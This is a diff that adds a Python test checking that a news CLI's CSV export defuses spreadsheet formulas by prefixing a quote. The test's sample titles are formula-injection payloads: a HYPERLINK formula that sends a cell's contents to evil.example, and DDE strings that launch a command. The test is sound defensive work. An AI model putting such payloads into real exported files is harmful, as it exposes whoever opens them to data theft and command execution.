@@ -22,6 +22,7 @@ from newscli.load import load_articles
 from newscli.printer import (
     COLUMNS,
     check_lines,
+    csv_cell,
     matched_lines,
     write_list,
     write_rows,
@@ -328,3 +329,31 @@ def test_check_lists_every_duplicate_url_or_says_how_many_more() -> None:
         "/c", 30, 30, legacy_encoded=[(f"/c/{n}.txt", "gb18030") for n in range(23)]
     )
     assert "    … 3 more files (--json lists all)" in list(check_lines(legacy))
+
+
+# --- CSV cells a spreadsheet would run ----------------------------------------------------------
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote() -> None:
+    import csv
+
+    hostile = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"點我")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+    ]
+    articles = [replace(seeds()[0], title=title, author="-5") for title in hostile]
+    out = io.StringIO()
+    assert write_list(out, articles, ["title", "author", "chars"], "csv") == len(hostile)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert [row[0] for row in rows[1:]] == ["'" + title for title in hostile]
+    assert {row[1] for row in rows[1:]} == {"-5"}  # a plain negative number stays a number
+    assert csv_cell("\r=1+1") == "'\r=1+1"  # (write_list shows a CR as ␍ before that)
+    plain = io.StringIO()
+    write_list(plain, seeds(), ["title"], "csv")
+    assert "'" not in plain.getvalue()  # ordinary titles are untouched
+    tsv = io.StringIO()
+    write_list(tsv, articles[:1], ["title"], "tsv")
+    assert tsv.getvalue().split("\n")[1] == hostile[0]  # TSV stays exact
